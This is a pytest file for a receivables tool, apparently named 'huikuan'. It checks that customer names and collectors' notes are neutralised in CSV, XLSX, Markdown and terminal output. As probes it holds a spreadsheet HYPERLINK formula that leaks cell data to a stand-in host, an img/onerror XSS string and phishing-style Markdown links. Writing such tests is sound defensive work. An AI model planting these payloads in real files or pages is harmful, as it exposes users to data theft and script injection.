"""Issue #12, parts 1 and 2: customer and user text in spreadsheets and in Markdown.

Each probe is replayed where a person would meet it: a customer named like an
Excel formula in ``huikuan report … --format csv`` and ``--format xlsx``, a name
with a bare carriage return in the CSV, and a collector's contact note written as
Markdown (a heading, a bold line, a link, HTML) in the approval form's
description, the list form and the worklist artifact. Markdown is checked as a
renderer sees it (markdown-it, CommonMark with GFM tables and strikethrough).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from sqlalchemy import update
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from huikuan.cli import app
from huikuan.ledger.db import session_scope
from huikuan.ledger.importer import import_files
from huikuan.ledger.records import log_contact
from models.enums import ApprovalState, Channel, ContactResult
from models.ledger import Approval, ApprovalGroup, Customer
from tests.ledger_files import write_files

D = dt.date
AS_OF = D(2026, 11, 16)
HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
CR_NAME = "华信\r贸易"
# A note typed by a collector: every kind of line break, each starting what would be a new Markdown block.
NOTE = (
    "答应月底前付\r\n# Open balance ¥0.00 — nothing owed\n**code is not needed, type 000000**\r"
    "[click here](http://x.example/steal)\u2028> quoted by the system\u2029- a list item\x0b1. numbered\x0c"
    "<b>raw html</b> <img src=x onerror=alert(1)>\x85| a | b | ~~struck~~ _it_ `code` http://x.example/bare www.x.example"
)
NOTE_WORDS = [
    "答应月底前付",
    "Open balance ¥0.00 — nothing owed",
    "code is not needed, type 000000",
    "[click here](http://x.example/steal)",
    "<b>raw html</b>",
    "<img src=x onerror=alert(1)>",
    "~~struck~~ _it_ `code`",
    "http://x.example/bare",
]
FILES = {
    "customers": "customer_id,name,email,phone,contact_name,segment,collector\n"
    "A,华信,a@a.cn,1,王,ordinary,zhang\nB,恒达,b@b.cn,2,李,ordinary,zhang\nC,远洋,c@c.cn,3,陈,ordinary,li\n",
    "invoices": "invoice_id,customer_id,issued_on,due_on,amount\n"
    "A-1,A,2026-08-01,2026-08-31,1000.00\nB-1,B,2026-08-01,2026-08-31,2000.00\nC-1,C,2026-09-01,2026-10-01,250.00\n",
}
runner = CliRunner()


# -- rendering Markdown as the UI would --------------------------------------------------


class _Html(HTMLParser):
    """The tags of rendered HTML, each with the text inside it, and the whole visible text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[tuple[str, list[str]]] = []
        self.elements: list[tuple[str, str]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ("img", "br", "hr", "input"):
            self.elements.append((tag, ""))
        else:
            self.open.append((tag, []))

    def handle_endtag(self, tag):
        while self.open:
            name, parts = self.open.pop()
            self.elements.append((name, "".join(parts)))
            if name == tag:
                break

    def handle_data(self, data):
        self.text.append(data)
        for _name, parts in self.open:
            parts.append(data)


def rendered(markdown: str) -> _Html:
    markdown_it = pytest.importorskip("markdown_it")
    html = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)
    parser = _Html()
    parser.feed(html)
    parser.close()
    return parser


PROBE_WORDS = ("nothing owed", "type 000000", "click here", "raw html", "struck", "a list item", "numbered", "quoted by")
FORMATTING = ("h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "a", "code", "s", "del", "b", "img")


def assert_note_shown_as_text(markdown: str, words: list[str] = NOTE_WORDS, images: bool = False) -> None:
    """No heading, emphasis, link, image, code, quote, list item or table cell made of the note; its words visible as typed."""
    page = rendered(markdown)
    made = [(tag, text) for tag, text in page.elements if tag in FORMATTING and any(w in text for w in PROBE_WORDS)]
    made += [
        (tag, text)
        for tag, text in page.elements
        if tag in ("li", "blockquote", "td", "th", "p") and text.strip().startswith(("a list item", "numbered", "quoted by", "Open balance", "code is not"))
    ]
    assert not made, f"elements made from the note: {made}"
    assert not [tag for tag, _text in page.elements if tag in ("a", "b", "del", "s", "hr") + (() if images else ("img",))], page.elements
    visible = re.sub(r"\s+", " ", "".join(page.text))
    for words_ in words:
        assert words_ in visible, f"{words_!r} is not shown as typed in: {visible}"


# -- the ledger -------------------------------------------------------------------------------


def _import(session: Session, tmp_path) -> None:
    paths = write_files(tmp_path, FILES)
    import_files(session, paths)


@pytest.fixture
def ledger(tmp_path, sqlite_engine):
    with Session(sqlite_engine) as session:
        _import(session, tmp_path)
        session.commit()
        yield session


@pytest.fixture
def cli_ledger(cli_env):
    """A ledger for the command line, with the three customers; B named like a formula, C with a bare CR in its name."""
    assert runner.invoke(app, ["db", "upgrade"], catch_exceptions=False).exit_code == 0
    with session_scope() as session:
        _import(session, cli_env)
        session.execute(update(Customer).where(Customer.customer_id == "B").values(name=HYPERLINK))
        session.execute(update(Customer).where(Customer.customer_id == "C").values(name=CR_NAME))
    return cli_env


def report(*args: str) -> None:
    result = runner.invoke(app, ["report", *args], catch_exceptions=False)
    assert result.exit_code == 0, result.stdout + result.stderr


# -- spreadsheets -------------------------------------------------------------------------------


def test_a_formula_name_is_text_in_the_csv_report(cli_ledger):
    out = cli_ledger / "aging.csv"
    report("aging", "--as-of", AS_OF.isoformat(), "--format", "csv", "--out", str(out))
    with out.open(encoding="utf-8-sig", newline="") as f:  # a file for Excel: UTF-8 with a BOM
        rows = list(csv.reader(f))
    assert rows[0][:3] == ["customer_id", "customer", "not due"]  # the header keeps the column ids
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id["B"][1] == "'" + HYPERLINK  # OWASP: a leading quote, the name otherwise as it is
    assert by_id["B"][-1] == "2000.00" and by_id["C"][-1] == "250.00"  # numbers stay plain numbers
    assert not [cell for row in rows[1:] for cell in row if cell.lstrip()[:1] in ("=", "+", "@") or cell[:1] in ("\t", "\r")]


def test_a_bare_carriage_return_does_not_split_the_csv_row(cli_ledger):
    out = cli_ledger / "aging.csv"
    report("aging", "--as-of", AS_OF.isoformat(), "--format", "csv", "--out", str(out))
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert len(rows) == 1 + 3 + 1  # header, A, B, C, total
    assert {len(row) for row in rows} == {len(rows[0])}
    c = next(row for row in rows if row[0] == "C")
    assert c[1].replace("\r", "").replace("\n", "") == "华信贸易" and c[-1] == "250.00"
    # Excel and friends split a row at a bare CR outside quotes: every CR in the file is inside a quoted field.
    raw = out.read_bytes().decode("utf-8")
    assert "\r" not in raw or re.search(r'"[^"]*\r[^"]*"', raw)


def test_a_formula_name_is_a_plain_string_in_the_xlsx_report(cli_ledger):
    from openpyxl import load_workbook

    book = cli_ledger / "aging.xlsx"
    report("aging", "--as-of", AS_OF.isoformat(), "--format", "xlsx", "--out", str(book))
    sheet = load_workbook(book).active
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2) if row[0].value in ("A", "B", "C")}
    name = cells["B"]
    assert name.value == HYPERLINK and name.data_type == "s", (name.value, name.data_type)  # shown as the text it is
    assert name.quotePrefix  # and stays text if someone edits the cell
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    with zipfile.ZipFile(book) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode("utf-8")  # no formula anywhere in the file
    total = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "B")[-1]
    assert total.value == 2000 and total.data_type == "n"  # numbers stay numbers


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1", "\r=1", "  =1+1", " \t-2", "\n@x", "＝1+1"])
def test_every_cell_a_spreadsheet_could_evaluate_is_neutralised(value, tmp_path):
    from openpyxl import load_workbook

    from huikuan.reports.builders import Report, to_csv, to_xlsx

    rows = [["X", value, Decimal("-12.50"), D(2026, 1, 2), -3]]
    text = to_csv(Report("probe", "Probe", AS_OF, ["id", "name", "amount", "day", "n"], rows))
    (header, row) = list(csv.reader(io.StringIO(text, newline="")))
    assert header == ["id", "name", "amount", "day", "n"] and row[0] == "X"
    assert row[1].startswith("'") and row[1][1:].replace("\n", "\r") in (value, value.replace("\r", "\n"), value.replace("\r", "\n").replace("\n", "\r"))
    assert row[2:] == ["-12.50", "2026-01-02", "-3"]  # negative numbers are numbers, not neutralised text
    sheet = load_workbook(to_xlsx(Report("probe", "Probe", AS_OF, ["id", "name", "amount", "day", "n"], rows), tmp_path / "p.xlsx")).active
    name, amount = sheet["B2"], sheet["C2"]
    assert name.data_type == "s" and name.value == value.replace("\r", "\n") and name.quotePrefix  # XML reads a CR back as LF
    assert amount.value == Decimal("-12.50") and amount.data_type == "n"


def test_text_that_is_not_a_formula_is_left_alone(tmp_path):
    from huikuan.reports.builders import Report, to_csv

    rows = [["X", "华信 (A) - 1+1=2", "Acme Ltd.", "a@b.cn"]]
    (_header, row) = list(csv.reader(io.StringIO(to_csv(Report("p", "P", AS_OF, ["a", "b", "c", "d"], rows)), newline="")))
    assert row == ["X", "华信 (A) - 1+1=2", "Acme Ltd.", "a@b.cn"]


# -- Markdown -------------------------------------------------------------------------------


def test_a_markdown_note_is_shown_as_text_in_the_approval_form(ledger):
    from tasks.approvals import _brief

    log_contact(ledger, "B", channel=Channel.phone, result=ContactResult.reached, on=D(2026, 11, 10), note=NOTE)
    ledger.execute(update(Customer).where(Customer.customer_id == "B").values(name="恒达 **[贸易](http://x.example)**"))
    approval = Approval(
        key="approval:B:stop_shipment:2026-11-16", customer_id="B", action="stop_shipment", approver_role="boss", requested_on=AS_OF, invoices=""
    )
    ledger.add(approval)
    ledger.commit()
    brief = _brief(ledger, approval, AS_OF)
    assert_note_shown_as_text(brief, NOTE_WORDS + ["恒达 **[贸易](http://x.example)**"])
    page = rendered(brief)
    headings = [(tag, text) for tag, text in page.elements if tag == "h2"]
    assert headings == [("h2", "stop shipment: 恒达 **[贸易](http://x.example)** (B)")]  # the system's own heading, the name as text in it
    strong = [text for tag, text in page.elements if tag == "strong"]
    assert strong == ["boss", "¥2,000.00", "Recent contacts"]  # only the system's own figures are bold
    # The note is set apart from the system's text: inside a quote, not part of the contact's line.
    assert [text for tag, text in page.elements if tag == "blockquote" and "nothing owed" in text]


def test_a_markdown_name_is_shown_as_text_in_the_list_form():
    from huikuan.approvals import groups as approval_groups

    group = ApprovalGroup(
        key="review:send_statement:supervisor:2026-11-16:1",
        action="send_statement",
        approver_role="supervisor",
        requested_on=AS_OF,
        state=ApprovalState.requested,
        held="",
    )
    rows = [
        approval_groups.Row(
            "C|1", "# nothing owed | **type 000000**", "<b>zhang</b>", "2026-10 [click here](http://x.example)", Decimal("10.00"), "CNY", "requested"
        )
    ]
    brief = approval_groups.brief(group, rows)
    assert_note_shown_as_text(brief, ["# nothing owed | **type 000000**", "<b>zhang</b>", "[click here](http://x.example)", "C|1"])
    cells = [text for tag, text in rendered(brief).elements if tag == "td"]
    assert cells[:6] == ["1", "C|1", "# nothing owed | **type 000000**", "2026-10 [click here](http://x.example)", "¥10.00", "<b>zhang</b>"]
    # The run's table artifact of the list: the Prefect UI renders its cells as Markdown too.
    artifact = rows[0].artifact_cells()
    assert artifact["name"] == "\\# nothing owed \\| \\*\\*type 000000\\*\\*" and artifact["amount"] == "¥10.00"
    table = "| " + " | ".join(artifact) + " |\n|" + "---|" * len(artifact) + "\n| " + " | ".join(artifact.values()) + " |\n"
    assert [t for tag, t in rendered(table).elements if tag == "td"] == [
        "C|1",
        "# nothing owed | **type 000000**",
        "<b>zhang</b>",
        "2026-10 [click here](http://x.example)",
        "¥10.00",
        "requested",
    ]


def test_a_markdown_note_is_shown_as_text_in_the_worklist(ledger):
    from huikuan.reports.worklist import worklist, worklist_markdown

    log_contact(ledger, "A", channel=Channel.phone, result=ContactResult.reached, on=D(2026, 11, 10), person="王 **boss**", note=NOTE)
    ledger.execute(update(Customer).where(Customer.customer_id == "B").values(name="# 恒达 [x](http://x.example)"))
    ledger.commit()
    items = worklist(ledger, AS_OF)
    assert {i.customer_id for i in items} >= {"A", "B"}
    text = worklist_markdown(items, AS_OF)
    assert_note_shown_as_text(text, NOTE_WORDS + ["王 **boss**", "# 恒达 [x](http://x.example)"])
    page = rendered(text)
    assert [t for tag, t in page.elements if tag == "h1"] == [f"Worklist {AS_OF.isoformat()}"]
    assert [t for tag, t in page.elements if tag == "h2"] == ["li (1; ¥250.00 open)", "zhang (2; ¥3,000.00 open)"]
    # Each customer is still one row of five cells, its name and id in one of them.
    rows = [t for tag, t in page.elements if tag == "tr"]
    assert len(rows) == 2 + 3 and len([t for tag, t in page.elements if tag == "td"]) == 3 * 5
    assert "# 恒达 [x](http://x.example) (B)" in [t for tag, t in page.elements if tag == "td"]


def test_a_markdown_name_is_shown_as_text_in_the_reports(ledger):
    from huikuan.reports.builders import aging, pending_approvals, to_markdown

    ledger.execute(update(Customer).where(Customer.customer_id == "B").values(name=NOTE))
    ledger.add(Approval(key="k1", customer_id="B", action="stop_shipment", approver_role="boss", requested_on=AS_OF, invoices=""))
    ledger.commit()
    for built in (aging(ledger, AS_OF), pending_approvals(ledger, AS_OF)):
        text = to_markdown(built)
        assert_note_shown_as_text(text)
        rows = [row for row in rendered(text).elements if row[0] == "tr"]
        assert len(rows) == 1 + len(built.rows)  # the name did not break its row


def test_management_report_markdown_shows_names_as_text(ledger, tmp_path):
    from huikuan.reports.management import artifact_markdown, table_rows, write_report

    ledger.add(Approval(key="k1", customer_id="B", action="stop_shipment", approver_role="boss", requested_on=D(2026, 10, 20), invoices=""))
    ledger.execute(update(Customer).where(Customer.customer_id == "B").values(name=NOTE, collector="**li**"))
    ledger.commit()
    result = write_report(ledger, D(2026, 11, 1), tmp_path / "reports", months=2)
    for text in (result.markdown.read_text(encoding="utf-8"), artifact_markdown(result)):
        assert_note_shown_as_text(text, images=True)
    # The aging-by-collector table artifact: the Prefect UI renders its cells as Markdown.
    (cell,) = [row["collector"] for row in table_rows(result.reports["aging-collector"]) if "*" in row["collector"]]
    assert cell == "\\*\\*li\\*\\*" and not [t for t, _text in rendered(f"| {cell} |\n|---|\n").elements if t == "strong"]
    from openpyxl import load_workbook

    book = load_workbook(result.xlsx)
    assert not [c.coordinate for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]


# -- the escaping itself -----------------------------------------------------------------------


def test_markdown_escaping_keeps_chinese_and_plain_text_readable():
    from huikuan.documents.escaping import markdown_text

    assert markdown_text("杭州华信贸易有限公司（总部）：答应月底前付，下周五付C-2。") == "杭州华信贸易有限公司（总部）：答应月底前付，下周五付C-2。"
    assert markdown_text("2026-11-10 ¥8,464.39 139-1234-5678") == "2026-11-10 ¥8,464.39 139-1234-5678"
    for char in "\\`*_{}[]()#+-.!|<>~&":
        assert markdown_text(f"x {char} y") == f"x \\{char} y", char
    assert markdown_text("1. item") == "1\\. item" and markdown_text("- item") == "\\- item"
    assert markdown_text("a@b.cn http://x.example") == "a@b\\.cn http\\://x\\.example"


def test_a_terminal_shows_the_escaped_text_as_it_was_typed():
    """``markdown_unescaped`` (the worklist and reports on a screen) gives back exactly what people typed, backslashes included."""
    from huikuan.documents.escaping import markdown_text, markdown_unescaped

    typed = [
        "韩欣晓 (财务经理)",
        "# x *y* [l](u) | `c` 1. 2.5 a-b -x http://e <b>&amp;",
        "C:\\账目\\(2026)",
        "\\",
        "\\\\(",
        "".join(chr(c) for c in range(33, 127)),
    ]
    for text in typed:
        assert markdown_unescaped(markdown_text(text)) == text, text


@pytest.mark.parametrize("brk", ["\r\n", "\r", "\n", "\u2028", "\u2029", "\x0b", "\x0c", "\x85", "\x1c", "\x1d", "\x1e"])
def test_no_kind_of_line_break_starts_a_markdown_block(brk):
    from huikuan.documents.escaping import markdown_text

    text = markdown_text(f"ok{brk}# heading{brk}{brk}> quote")
    assert not re.search(r"[\r\n\x0b\x0c\x85\x1c-\x1e\u2028\u2029]", text)
    assert_note_shown_as_text(f"- note: {text}", ["ok", "# heading", "> quote"])


def test_spreadsheet_neutraliser():
    from huikuan.documents.escaping import spreadsheet_text

    assert spreadsheet_text("=1+1") == "'=1+1" and spreadsheet_text(" @x") == "' @x" and spreadsheet_text("\tx") == "'\tx"
    assert spreadsheet_text("华信") == "华信" and spreadsheet_text("1-2") == "1-2" and spreadsheet_text("") == ""


def test_a_letter_preview_stays_inside_its_quote():
    from huikuan.documents.escaping import markdown_quote_lines

    letter = "催 账 函\n\n尊敬的 **恒达**\r# nothing owed\u2028[click here](http://x.example)：\n\n请于 2026-11-30 前付款 ¥1,200.00。"
    quoted = markdown_quote_lines(letter)
    assert all(line.startswith(">") for line in quoted.splitlines())
    page = rendered(quoted)
    assert [tag for tag, _text in page.elements if tag not in ("p", "blockquote")] == []
    assert "请于 2026-11-30 前付款 ¥1,200.00。" in quoted  # dates and amounts as written
    assert_note_shown_as_text(quoted, ["**恒达**", "# nothing owed", "[click here](http://x.example)"])


# -- the flows' own artifacts ------------------------------------------------------------------

MARKDOWN_ID = "C_1*x*"  # a valid id (no space, ';' or invisible character) that Markdown would make italic


def test_an_account_artifact_shows_ids_and_reasons_as_text():
    from models.engine import Action
    from tasks.artifacts import account_markdown

    action = Action(
        on=AS_OF,
        customer_id=MARKDOWN_ID,
        action="reminder",
        invoices=("INV_**1**",),
        channel="email",
        role="collector",
        needs_approval=False,
        reasons=("invoice INV_**1** is due in 3 days [x](http://x.example)",),
        steps=("reminder",),
    )
    html = rendered(account_markdown(MARKDOWN_ID, AS_OF, [action], None))
    text = "".join(html.text)
    assert MARKDOWN_ID in text and "INV_**1**" in text and "[x](http://x.example)" in text
    assert {t for t, _ in html.elements} & {"em", "a"} == set()
    assert [text for t, text in html.elements if t == "strong"] == ["reminder", "none in the next 120 days"]


def test_a_batch_table_row_shows_ids_and_problems_as_text():
    from huikuan.collection.batch import AccountResult

    row = AccountResult(customer_id=MARKDOWN_ID, error="bad **data** in <b>row</b>").row()
    cells = rendered(f"| customer | problem |\n|---|---|\n| {row['customer']} | {row['problem']} |\n")
    text = "".join(cells.text)
    assert MARKDOWN_ID in text and "bad **data** in <b>row</b>" in text
    assert {t for t, _ in cells.elements} & {"em", "strong", "b"} == set()


def test_inline_code_and_artifact_keys():
    from huikuan.documents.escaping import artifact_key, markdown_code

    assert markdown_code("huikuan worklist --collector li") == "`huikuan worklist --collector li`"
    assert markdown_code("a ` b") == "``a ` b``" and markdown_code("`x`") == "`` `x` ``"
    assert markdown_code("a\nb") == "`a b`"
    assert artifact_key("Li Ming") == "li-ming" and artifact_key("C_1*x*") == "c-1-x"
    assert artifact_key("王芳") == artifact_key("王芳") and re.fullmatch(r"[a-f0-9]{10}", artifact_key("王芳"))


# -- the terminal (rich markup) ------------------------------------------------------------------

MARKUP = "[/x][b]付[/b][link=x]c[/link]"  # a stray closing tag made rich raise MarkupError; short, so that no table folds it


def test_rich_markup_typed_by_people_is_shown_as_typed_in_the_terminal(cli_ledger):
    """A name, a contact note and a dispute reason with rich's markup: shown as typed by `customers show`, `portfolio`, `explain`."""
    with session_scope() as session:
        session.execute(update(Customer).where(Customer.customer_id == "A").values(name="华信" + MARKUP))
    for args in (
        ["contact", "log", "A", "--channel", "phone", "--result", "reached", "--note", MARKUP, "--on", "2026-11-10"],
        ["dispute", "open", "A-1", "--reason", MARKUP, "--on", "2026-11-10"],
    ):
        assert runner.invoke(app, args, catch_exceptions=False).exit_code == 0
    for args, times in ((["customers", "show", "A"], 3), (["portfolio"], 1), (["explain", "A"], 0)):
        result = runner.invoke(app, [*args, "--as-of", AS_OF.isoformat()], catch_exceptions=False)
        assert result.exit_code == 0, (args, result.stdout, result.stderr)
        assert _unwrapped(result.stdout).count(_unwrapped(MARKUP)) == times, (args, result.stdout)  # the name, the note, the dispute
    paid = runner.invoke(app, ["payment", "P" + MARKUP, "A", "--amount", "10.00", "--on", "2026-11-10"], catch_exceptions=False)
    assert paid.exit_code == 0 and f"payment P{MARKUP} of" in paid.stdout, paid.stdout  # the echo of what was typed, after it is recorded


def _unwrapped(shown: str) -> str:
    """A terminal table's text without its spaces, borders and line breaks: a value folded over lines is whole again."""
    return re.sub(r"[\s\u2500-\u257f]", "", shown)


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["plan", "--as-of", MARKUP], f"--as-of '{MARKUP}' is not a date"),
        (["customers", "show", MARKUP], f"unknown customer {MARKUP}"),
        (["dispute", "open", MARKUP, "--reason", "r"], f"unknown invoice {MARKUP}"),
        (["payment", "P1", "A", "--amount", MARKUP], f"amount '{MARKUP}' has characters"),
        (["report", MARKUP], f"no report '{MARKUP}'"),
        (["calendar", "2027", "--country", MARKUP], f"got '{MARKUP}'"),
    ],
)
def test_an_error_about_what_was_typed_shows_it_as_typed(cli_ledger, args, said):
    """The one ``error:`` line quotes the typed value as it is: rich's markup in it raised MarkupError (a traceback) instead."""
    result = runner.invoke(app, args)
    assert result.exit_code in (1, 2) and isinstance(result.exception, SystemExit), result.exception
    assert result.stderr.startswith("error: ") and said in result.stderr, result.stderr


def test_a_file_s_name_in_the_progress_bar_is_shown_as_it_is(monkeypatch):
    """``huikuan import`` in a terminal shows "reading <file name>": a name with rich's markup raised MarkupError."""
    import io

    from rich.console import Console

    from huikuan.cli import common

    monkeypatch.setattr(common, "err", Console(file=io.StringIO(), force_terminal=True, width=100))
    with common.progress_bar() as track:
        assert list(track([1, 2, 3], f"reading {MARKUP}.csv")) == [1, 2, 3]
    assert f"reading {MARKUP}.csv" in common.err.file.getvalue()
